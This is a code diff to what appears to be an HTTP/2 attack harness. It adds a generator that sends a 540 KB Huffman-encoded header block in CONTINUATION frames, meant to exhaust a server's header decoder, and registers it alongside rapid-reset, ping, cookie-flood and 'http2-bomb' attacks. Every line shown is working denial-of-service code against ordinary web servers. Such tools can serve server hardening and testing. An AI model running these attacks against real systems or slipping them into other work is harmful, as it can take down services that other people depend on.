@@ -21,6 +21,7 @@ from functools import cache, partial
 import raw
 from h2.errors import ErrorCodes
 from hpack import Encoder
+from hpack.hpack import encode_integer
 
 #: Bytes sent in one call.
 BATCH = 32 * 1024
@@ -104,6 +105,18 @@ def big_headers(fields: list[raw.Field]) -> Iterator[bytes]:
             yield raw.continuation(stream_id, block[start : start + 16384], end_headers=last)
 
 
+def long_block() -> Iterator[bytes]:
+    """A block of 540 KB in one Huffman string: all of it was decoded before its size was seen."""
+    string = b"\x1c" * 540_000  # no code is shorter
+    block = _request() + b"\0\x01x" + bytes(encode_integer(len(string), 7)) + string
+    block = block.replace(b"\x01x\x7f", b"\x01x\xff")  # it is Huffman's
+    for stream_id in _streams():
+        yield raw.headers(stream_id, block[:16384], end_headers=False)
+        for start in range(16384, len(block), 16384):
+            last = start + 16384 >= len(block)
+            yield raw.continuation(stream_id, block[start : start + 16384], end_headers=last)
+
+
 def http2_bomb() -> Iterator[bytes]:
     """CVE-2026-49975: 2 KB of references to one field of the table."""
     encoder = Encoder()
@@ -175,6 +188,7 @@ ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
     "long-field": partial(big_headers, [("x", "a" * 90_000)]),
     "cookie-in-thousands": partial(big_headers, [("cookie", f"{i}=1") for i in range(5000)]),
     "http2-bomb": http2_bomb,
+    "huffman-string-of-540-kb": long_block,
     "ping": partial(forever, raw.ping()),
     "ping-ack": partial(forever, raw.ping(ack=True)),
     "settings": partial(forever, raw.settings({4: 65535})),
@@ -204,7 +218,13 @@ ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
 ANSWERED = ("rapid-reset", "ping", "settings", "malformed-requests", "past-the-concurrency")
 
 #: Those that cost most when many attack at once.
-MANY_AT_ONCE = ("rapid-reset", "malformed-requests", "data-on-a-closed-stream", "ping")
+MANY_AT_ONCE = (
+    "rapid-reset",
+    "malformed-requests",
+    "data-on-a-closed-stream",
+    "ping",
+    "huffman-string-of-540-kb",
+)
 
 
 # -- the attacker -----------------------------------------------------------------------------
